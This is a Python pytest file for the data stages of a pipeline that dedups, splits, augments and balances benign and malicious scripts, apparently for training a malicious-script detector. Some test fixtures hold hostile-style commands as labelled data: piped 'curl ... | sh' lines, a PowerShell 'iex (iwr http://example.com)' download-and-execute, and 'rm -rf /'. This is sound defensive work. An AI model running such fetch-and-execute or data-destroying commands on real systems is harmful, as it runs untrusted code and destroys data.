"""Contracts of the data stages on small hand-made inputs and on data/tiny."""
import ast
import re
import json
from collections import Counter

import numpy as np
import pytest

from pipeline.config import load_config
from pipeline.run.records import Record, read_records, text_id
from pipeline.run.runner import run_pipeline
from pipeline.stages.augment import variants
from pipeline.stages.balance import balanced_rows, resample
from pipeline.stages.split import SPLITS, SplitKeys, assign

from .conftest import TINY_CONFIG

SCRIPT = "\n".join(f"$item{i} = Get-ChildItem -Path C:\\data\\folder{i} -Recurse | Where-Object {{ $_.Length -gt {i}00 }}"
                   for i in range(30))


def _write(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _run(tmp_path, rows, until, *overrides):
    data = _write(tmp_path / "in.jsonl", rows)
    cfg = load_config(TINY_CONFIG, inputs=[str(data)], overrides=["data.dedup.workers=1", *overrides])
    run_pipeline(cfg, tmp_path / "run", until=until, log=lambda m: None)
    return tmp_path / "run", cfg


def test_dedup_catches_a_one_line_edit_keeps_a_different_script_and_drops_conflicts(tmp_path):
    edited = SCRIPT.replace("folder7", "folder7b")
    other = "\n".join(f"for f in /var/log/app{i}/*.log; do gzip -9 \"$f\"; done" for i in range(30))
    rows = [{"text": SCRIPT, "label": "benign"}, {"text": edited, "label": "benign"},
            {"text": SCRIPT + "\n", "label": "benign"},  # exact duplicate after normalisation
            {"text": other, "label": "benign"}, {"text": other.replace("gzip -9", "gzip -1"), "label": "malicious"}]
    run_dir, _ = _run(tmp_path, rows, "dedup")
    kept = list(read_records(run_dir / "dedup" / "records.jsonl"))
    counts = json.loads((run_dir / "dedup" / "manifest.json").read_text())["counts"]
    assert counts["exact_duplicates"] == 1 and counts["near_duplicates"] == 1 and counts["conflicts"] == 1
    assert [r.text for r in kept] == [min((SCRIPT, edited), key=text_id)]  # the conflict pair is gone
    conflict = json.loads((run_dir / "dedup" / "conflicts.jsonl").read_text())
    assert conflict["resolution"] == "dropped" and conflict["votes"] == {"benign": 1, "malicious": 1}


def test_majority_policy_keeps_the_majority_label(tmp_path):
    other = "\n".join(f"curl -s http://example.com/{i} | sh -c 'echo step {i}'" for i in range(30))
    rows = [{"text": other, "label": "malicious"}, {"text": other.replace("step 3", "step 33"), "label": "malicious"},
            {"text": other.replace("step 5", "step 55"), "label": "benign"}]
    run_dir, _ = _run(tmp_path, rows, "dedup", "data.dedup.conflict_policy=majority")
    kept = list(read_records(run_dir / "dedup" / "records.jsonl"))
    assert len(kept) == 1 and kept[0].label == "malicious"


def _records(n_per_label=60, langs=("python", "bash"), groups=False):
    out = []
    for label in ("malicious", "benign"):
        for i in range(n_per_label):
            text = f"# {label} {i}\necho {label}-{i}"
            out.append(Record(id=text_id(text), text=text, label=label, lang=langs[i % len(langs)],
                              source=f"s{i}", group=f"g{i // 4}-{label}" if groups else None))
    return out


def test_split_is_stratified_seeded_and_keeps_groups_whole():
    recs = _records(groups=True)

    def split(seed):
        where = assign(SplitKeys.read(recs, "group"), 0.15, 0.25, True, seed=seed)
        return {name: [r for r, s in zip(recs, where) if s == k] for k, name in enumerate(SPLITS)}

    a, b, c = split(1), split(1), split(2)
    assert {k: [r.id for r in v] for k, v in a.items()} == {k: [r.id for r in v] for k, v in b.items()}
    assert {r.id for r in a["test"]} != {r.id for r in c["test"]}
    assert sum(len(v) for v in a.values()) == len(recs)
    where = {r.group: name for name, rs in a.items() for r in rs}
    for name, rs in a.items():
        assert all(where[r.group] == name for r in rs)  # no group straddles
        labels = Counter(r.label for r in rs)
        assert labels["malicious"] == labels["benign"]  # stratified by label (groups are single-label here)
    assert abs(len(a["test"]) / len(recs) - 0.25) < 0.05 and abs(len(a["val"]) / len(recs) - 0.15) < 0.05


def test_tiny_pipeline_has_no_cross_split_leakage_and_augments_train_only(tmp_path, tiny_overrides):
    cfg = load_config(TINY_CONFIG, overrides=tiny_overrides)
    run_pipeline(cfg, tmp_path, until="balance", log=lambda m: None)
    split = json.loads((tmp_path / "split" / "manifest.json").read_text())["counts"]
    augment = json.loads((tmp_path / "augment" / "manifest.json").read_text())["counts"]
    assert split["cross_split_exact_duplicates"] == 0 and augment["leakage"]["leaks"]["pairs"] == 0
    held_out = {r.id for s in ("val", "test") for r in read_records(tmp_path / "split" / f"{s}.jsonl")}
    augmented = list(read_records(tmp_path / "augment" / "train.jsonl"))
    train_ids = {r.id for r in read_records(tmp_path / "split" / "train.jsonl")}
    made = [r for r in augmented if r.parent_id]
    assert made and all(r.parent_id in train_ids for r in made)
    assert not held_out & {r.id for r in augmented}
    parents = {r.id: r for r in augmented}
    assert all(r.label == parents[r.parent_id].label and r.lang == parents[r.parent_id].lang for r in made)
    assert {r.label for r in made} == {"malicious", "benign"}  # both classes are augmented


def test_augment_refuses_other_splits_and_keeps_python_parsing():
    recs = [Record(id="x", text="import os\n\ndef main(path):\n    total = 0\n    for name in os.listdir(path):\n"
                   "        total += len(name)\n    return total\n", label="benign", lang="python", source="t")]
    with pytest.raises(ValueError, match="train split only"):
        list(variants(recs, "test", ["rename_identifiers"], 1, 1.0, 0, Counter()))
    made = list(variants(recs, "train", ["rename_identifiers", "comments", "whitespace", "string_split"], 8, 1.0,
                         0, Counter()))
    assert made
    for v in made:
        ast.parse(v.text)
        assert v.label == "benign" and v.parent_id == "x" and v.transforms


def test_balance_ratios():
    labels = ["benign"] * 100 + ["malicious"] * 30
    hybrid = resample(labels, "hybrid", 0.8, 1.0, seed=0)
    c = Counter(labels[i] for i in hybrid)
    assert c["malicious"] == 80 and c["benign"] == 80  # up to 0.8 x 100, then majority down to 1:1
    over = Counter(labels[i] for i in resample(labels, "oversample", 1.0, 1.0, seed=0))
    under = Counter(labels[i] for i in resample(labels, "undersample", 1.0, 1.0, seed=0))
    assert over == {"benign": 100, "malicious": 100} and under == {"benign": 30, "malicious": 30}
    assert len(resample(labels, "none", 0.8, 1.0, seed=0)) == 130
    assert list(resample(labels, "hybrid", 0.8, 1.0, seed=0)) == list(hybrid)  # seeded


def test_balance_per_language_leaves_no_language_label_prior():
    labels = (["benign"] * 90 + ["malicious"] * 20 + ["benign"] * 20 + ["malicious"] * 60 + ["benign"] * 7
              + ["benign"] * 30 + ["malicious"] * 9)
    langs = ["javascript"] * 110 + ["bash"] * 80 + ["vbscript"] * 7 + ["batch"] * 39
    kinds = np.full(len(labels), 2)

    def shares(rows):
        c = Counter((langs[i], labels[i]) for i in rows)
        return {lang: c[(lang, "malicious")] / (c[(lang, "malicious")] + c[(lang, "benign")]) for lang in set(langs)}

    whole, none_kept = balanced_rows(labels, langs, kinds, "hybrid", 0.8, 1.0, 0, per_language=False)
    assert Counter(labels[i] for i in whole)["malicious"] == Counter(labels[i] for i in whole)["benign"]
    assert shares(whole)["javascript"] < 0.3 and shares(whole)["bash"] > 0.6 and none_kept == {}  # priors remain
    rows, kept = balanced_rows(labels, langs, kinds, "hybrid", 0.8, 1.0, 0, per_language=True)
    assert shares(rows)["javascript"] == shares(rows)["bash"] == 0.5
    # one label, or 9 of one (each would be repeated 3x): kept as they are, nothing repeated or dropped
    assert kept == {"vbscript": {"benign": 7}, "batch": {"benign": 30, "malicious": 9}}
    assert Counter(langs[i] for i in rows)["vbscript"] == 7 and Counter(langs[i] for i in rows)["batch"] == 39
    again, _ = balanced_rows(labels, langs, kinds, "hybrid", 0.8, 1.0, 0, per_language=True)
    other, _ = balanced_rows(labels, langs, kinds, "hybrid", 0.8, 1.0, 1, per_language=True)
    assert list(again) == list(rows) and list(other) != list(rows)  # seeded


def test_balance_stage_per_language(tmp_path, tiny_overrides):
    cfg = load_config(TINY_CONFIG, overrides=[*tiny_overrides, "data.balance.per_language=true"])
    run_pipeline(cfg, tmp_path, until="balance", log=lambda m: None)
    counts = json.loads((tmp_path / "balance" / "manifest.json").read_text())["counts"]
    before, after, kept = counts["before"]["per_lang"], counts["after"]["per_lang"], counts["languages_kept_as_they_are"]
    assert counts["per_language"] and 0 < len(kept) < len({key.split("/")[1] for key in after})
    for lang in {key.split("/")[1] for key in after}:
        if lang in kept:  # a label under 10 rows: kept as it was
            assert min(kept[lang].values()) < 10 and all(after[f"{lab}/{lang}"] == n for lab, n in kept[lang].items())
            assert all(before[f"{lab}/{lang}"] == n for lab, n in kept[lang].items())
        else:
            assert after[f"benign/{lang}"] == after[f"malicious/{lang}"]
    rows = list(read_records(tmp_path / "balance" / "train.jsonl"))
    assert Counter(f"{r.label}/{r.lang}" for r in rows) == after


def test_balance_takes_a_ratio_just_under_the_oversampling_goal():
    """168 vs 134 is under 0.8 but 0.8 x 168 rounds down to 134 rows: nothing to add, which imblearn refuses (the
    balance stage failed with its "remove samples from the minority class" error on such counts)."""
    labels = ["benign"] * 168 + ["malicious"] * 134
    assert Counter(labels[i] for i in resample(labels, "hybrid", 0.8, 1.0, seed=0)) == {"benign": 134, "malicious": 134}
    assert len(resample(labels, "oversample", 0.8, 1.0, seed=0)) == len(labels)


def test_ingest_keeps_good_records_around_bad_ones(tmp_path):
    data = tmp_path / "in.jsonl"
    data.write_text('{"text": "echo ok", "label": "benign"}\nnot json\n{"text": "", "label": "benign"}\n'
                    '{"text": "rm -rf /", "label": "evil"}\n{"text": "iex (iwr http://example.com)", "label": "malicious"}\n')
    cfg = load_config(TINY_CONFIG, inputs=[str(data)])
    run_pipeline(cfg, tmp_path / "run", until="ingest", log=lambda m: None)
    counts = json.loads((tmp_path / "run" / "ingest" / "manifest.json").read_text())["counts"]
    assert counts["accepted"] == 2 and counts["rejected"] == 3
    rejected = [json.loads(l) for l in (tmp_path / "run" / "ingest" / "rejected.jsonl").read_text().splitlines()]
    assert {r["reason"] for r in rejected} == {"malformed_json", "empty", "unknown_label"}
    assert all(r["location"].startswith(str(data)) and r["detail"] for r in rejected)


def test_augment_equalises_the_variant_rate_across_labels_per_language():
    from pipeline.stages.augment import equalise

    def rec(i, label, lang, parent=None):
        return Record(id=f"{lang}-{label}{i}{parent or ''}", text="x", label=label, lang=lang, source="s", parent_id=parent)

    originals = [rec(i, "benign", "bash") for i in range(10)] + [rec(i, "malicious", "bash") for i in range(10)] \
        + [rec(i, "benign", "vbscript") for i in range(3)]
    made = [rec(i, "benign", "bash", "p") for i in range(9)] + [rec(i, "malicious", "bash", "p") for i in range(5)] \
        + [rec(i, "benign", "vbscript", "p") for i in range(2)]
    kept = equalise(originals, made, seed=0)
    per = Counter((r.lang, r.label) for r in kept)
    assert per[("bash", "benign")] == per[("bash", "malicious")] == 5  # the lower rate, 5/10, for both labels
    assert per[("vbscript", "benign")] == 2  # one label only in that language: nothing to equalise
    assert equalise(originals, made, seed=0) == kept


def _random_script(seed: int) -> str:
    import random
    rng = random.Random(seed)
    words = ["alpha", "beta", "gamma", "delta", "omega", "sigma", "kappa", "theta", "zeta", "lambda", "rho", "tau"]
    return "\n".join(f"${rng.choice(words)}{k} = Get-Item -Path {rng.choice(words)}{rng.randint(0, 999)} "
                     f"-Filter {rng.choice(words)} | Out-File {rng.choice(words)}{rng.randint(0, 999)}"
                     for k in range(30))


def test_leakage_check_after_augment_fires_on_a_planted_leak(tmp_path):
    """Twenty near-copies (one line changed, Jaccard ~0.9) planted in groups of their own: every twin that the split
    puts on the other side of train is reported, and no pair of unrelated scripts is."""
    rows = [{"text": _random_script(i), "label": ["benign", "malicious"][i % 2], "lang": "powershell",
             "group": f"g{i}"} for i in range(60)]
    twins = [dict(r, text=r["text"].replace("$", "$new", 1), group=f"twin{i}") for i, r in enumerate(rows[:20])]
    run_dir, _ = _run(tmp_path, rows + twins, "augment", "data.dedup.enabled=false", "data.augment.enabled=false")
    split_of = {r.text: s for s in SPLITS for r in read_records(run_dir / "split" / f"{s}.jsonl")}
    expected = sum(1 for r, t in zip(rows, twins)
                   if "train" in (split_of[r["text"]], split_of[t["text"]]) and split_of[r["text"]] != split_of[t["text"]])
    counts = json.loads((run_dir / "augment" / "manifest.json").read_text())["counts"]
    assert expected > 0 and counts["leakage"]["leaks"]["pairs"] == expected
    assert counts["leakage"]["warnings"]["pairs"] == 0
    assert "cross_split_near_duplicates" not in json.loads((run_dir / "split" / "manifest.json").read_text())["counts"]


def test_leaking_variants_are_dropped_and_counted(tmp_path):
    from pipeline.config import DedupConfig
    from pipeline.stages.augment import leakage, leakage_summary

    text = _random_script(0)
    train = [Record(id="o", text=text, label="benign", lang="powershell", source="s"),
             Record(id="v", text=text + "\n# x", label="benign", lang="powershell", source="s", parent_id="o"),
             Record(id="u", text=_random_script(1), label="benign", lang="powershell", source="s")]
    held = {"test": [Record(id="t", text=text.replace("$", "$new", 1), label="benign", lang="powershell",
                            source="s")], "val": []}
    pairs = leakage(train, held, 0.7, DedupConfig(workers=1))
    assert {(p["train_id"], p["held_id"], p["variant"]) for p in pairs} == {("o", "t", False), ("v", "t", True)}
    summary = leakage_summary(pairs, kept={"o"}, threshold=0.85)
    assert summary["leaks"] == {"pairs": 1, "held_out_scripts": 1, "per_split": {"test": 1}, "from_variants": 0}


def test_cross_split_exact_duplicates_counts_only_ids_in_two_splits():
    recs = [Record(id=text_id(f"i{k % 3}"), text="x", label="benign", lang="bash", source="s", group=f"g{k}")
            for k in range(6)]  # ids i0, i1, i2 twice each, in groups of their own
    keys = SplitKeys.read(recs, "group")
    assert keys.ids_across_splits(np.array([0, 0, 0, 0, 1, 2])) == 2  # i1 (0 and 2) and i2 (0 and 1)
    assert keys.ids_across_splits(np.array([0, 1, 2, 0, 1, 2])) == 0  # each id in one split


def test_texts_on_disk_reads_back_what_was_written(tmp_path):
    from pipeline.run.records import TextsOnDisk, scan_records, write_records

    recs = [Record(id=str(i), text=f"line {i}\nwith é and \\\" quotes", label="benign") for i in range(5)]
    write_records(tmp_path / "r.jsonl", recs)
    offsets = [o for o, _ in scan_records(tmp_path / "r.jsonl")]
    texts = TextsOnDisk(tmp_path / "r.jsonl", offsets[::-1])
    assert len(texts) == 5 and list(texts) == [r.text for r in recs[::-1]] and texts[1:3] == [recs[3].text, recs[2].text]
    assert texts.record(0).id == "4"


def test_atomic_writes_get_the_usual_permissions(tmp_path):
    import os

    from pipeline.run.records import write_json

    write_json(tmp_path / "x.json", {"a": 1})
    mask = os.umask(0)
    os.umask(mask)
    assert (tmp_path / "x.json").stat().st_mode & 0o777 == 0o666 & ~mask


def test_augment_equalises_every_transform_rate_across_labels():
    """The old equaliser matched only "has any variant": benign renamed 8/10, malicious 0/10 passed it."""
    from pipeline.stages.augment import equalise, rate_gaps, transform_rates

    def rec(i, label, parent=None, transforms=()):
        return Record(id=f"{label}{i}{parent or ''}", text="x", label=label, lang="javascript", source="s",
                      parent_id=parent, transforms=list(transforms))

    originals = [rec(i, lab) for lab in ("benign", "malicious") for i in range(40)]
    made = [rec(i, "benign", "p", ["rename_identifiers"]) for i in range(30)] \
        + [rec(i, "benign", "p", ["whitespace"]) for i in range(30, 36)] \
        + [rec(i, "malicious", "p", ["whitespace"]) for i in range(30)] \
        + [rec(i, "malicious", "p", ["rename_identifiers"]) for i in range(30, 36)]
    before = transform_rates(originals, made)["javascript"]
    assert before["any"]["benign"] == before["any"]["malicious"] == 0.9  # equal variant rates hid the cue
    assert {g["transform"] for g in rate_gaps(transform_rates(originals, made))} == {"rename_identifiers",
                                                                                    "whitespace"}
    kept = equalise(originals, made, seed=0)
    rates = transform_rates(originals, kept)["javascript"]
    for name in ("any", "rename_identifiers", "whitespace"):  # equal up to one variant in 40 originals
        assert abs(rates[name]["benign"] - rates[name]["malicious"]) <= 1 / 40 and rates[name]["malicious"] > 0.1
    assert len(kept) >= 24  # only the surplus goes: 6 + 6 matched pairs of each transform at the least
    assert rate_gaps(transform_rates(originals, equalise(originals, made, seed=0))) == []


def test_rate_alarm_ignores_languages_too_small_to_measure():
    from pipeline.stages.augment import rate_gaps

    rates = {"bash": {"originals": {"benign": 5, "malicious": 30}, "whitespace": {"benign": 0.4, "malicious": 0.1}},
             "python": {"originals": {"benign": 50, "malicious": 30}, "whitespace": {"benign": 0.4, "malicious": 0.1}}}
    assert [(g["lang"], g["gap"]) for g in rate_gaps(rates)] == [("python", 0.3)]


def test_new_names_come_from_identifiers_both_labels_use():
    import random

    from pipeline.transforms import rename_identifiers
    from pipeline.transforms.renaming import NameVocabulary, name_vocabulary

    shared = [f"shared{chr(97 + i)}word" for i in range(25)]  # one word part each after splitting: "shared...word"
    scripts = [(f"var {w}Count = 1;\nvar {'maliciousonly' if lab == 'malicious' else 'benignonly'}Tag = {w}Count;",
                "javascript", lab) for w in shared for lab in ("benign", "malicious")]
    vocab = NameVocabulary.from_scripts(scripts)
    words = set(vocab.words["javascript"][0])
    assert "count" in words and "maliciousonly" not in words and "benignonly" not in words and "var" not in words
    src = "var total = 0;\nfor (var item of list) { total += item; }\nconsole.log(total);\n"
    with name_vocabulary(vocab):
        out = rename_identifiers(src, "javascript", random.Random(1))
    new = set(re.findall(r"[A-Za-z]+", out)) - set(re.findall(r"[A-Za-z]+", src))
    assert new and all(any(w in n.lower() for w in words) for n in new)
    fallback = rename_identifiers(src, "javascript", random.Random(1))  # outside the block: the fixed list
    assert fallback != out


def test_tiny_augment_manifest_records_rates_and_vocabulary(tmp_path, tiny_overrides):
    cfg = load_config(TINY_CONFIG, overrides=tiny_overrides)
    run_pipeline(cfg, tmp_path, until="augment", log=lambda m: None)
    counts = json.loads((tmp_path / "augment" / "manifest.json").read_text())["counts"]
    assert counts["transform_rate_gaps"] == [] and counts["name_vocabulary"]
    for lang, cells in counts["transform_rates"].items():
        if len(cells["originals"]) == 2:
            for name, per_label in cells.items():
                if name != "originals":  # per combination equal up to one variant: small gaps only
                    assert abs(per_label["benign"] - per_label["malicious"]) <= 0.1 + 2 / min(cells["originals"].values())


def test_obfuscating_wrappers_alone_wrap_variants_of_both_labels(tmp_path, tiny_overrides):
    """data.augment.obfuscating_wrappers=true is enough to draw the wrappers (it once only permitted listing them, so
    setting it alone changed nothing), and they land on benign and malicious variants alike."""
    cfg = load_config(TINY_CONFIG, overrides=[*tiny_overrides, "data.augment.obfuscating_wrappers=true"])
    assert cfg.data.augment.drawn_transforms()[-2:] == ["base64_wrap", "hex_wrap"]
    run_pipeline(cfg, tmp_path, until="augment", log=lambda m: None)
    wrapped = Counter(r.label for r in read_records(tmp_path / "augment" / "train.jsonl")
                      if {"base64_wrap", "hex_wrap"} & set(r.transforms or ()))
    assert wrapped["benign"] > 0 and wrapped["malicious"] > 0
    counts = json.loads((tmp_path / "augment" / "manifest.json").read_text())["counts"]
    assert counts["transform_rate_gaps"] == []


def test_undersampling_drops_repeats_and_variants_before_real_scripts():
    from pipeline.stages.balance import row_kinds

    def rec(i, label, parent=None):
        return Record(id=text_id(f"{label}{i}{parent}"), text="x", label=label, lang="bash", source="s",
                      parent_id=parent)

    benign = [rec(i, "benign") for i in range(50)] + [rec(i, "benign", "p") for i in range(50)]
    malicious = [rec(i, "malicious") for i in range(50)] + [rec(i, "malicious", "p") for i in range(20)]
    records = benign + malicious + benign[:5]  # five benign rows repeated
    labels = [r.label for r in records]
    rows = resample(labels, "undersample", 1.0, 1.0, seed=0, kinds=row_kinds(records))
    kept = [records[i] for i in rows]
    kept_benign = [r for r in kept if r.label == "benign"]
    assert len(kept_benign) == 70 and len([r for r in kept if r.label == "malicious"]) == 70
    assert {r.id for r in benign[:50]} <= {r.id for r in kept_benign}  # every real benign script survives
    assert sum(1 for r in kept_benign if r.parent_id) == 20  # variants remain, at the minority's share (20/70)
    assert len({r.id for r in kept_benign}) == len(kept_benign)  # and no repeat is left
    # the majority's transformed share is brought to the minority's: here its variants stay, originals go
    few = benign[:50] + benign[50:60] + malicious[:20] + malicious[50:60]  # shares: benign 1/6, malicious 1/3
    kept = [few[i] for i in resample([r.label for r in few], "undersample", 1.0, 1.0, seed=0, kinds=row_kinds(few))]
    assert Counter((r.label, bool(r.parent_id)) for r in kept) == {("benign", False): 20, ("benign", True): 10,
                                                                    ("malicious", False): 20, ("malicious", True): 10}
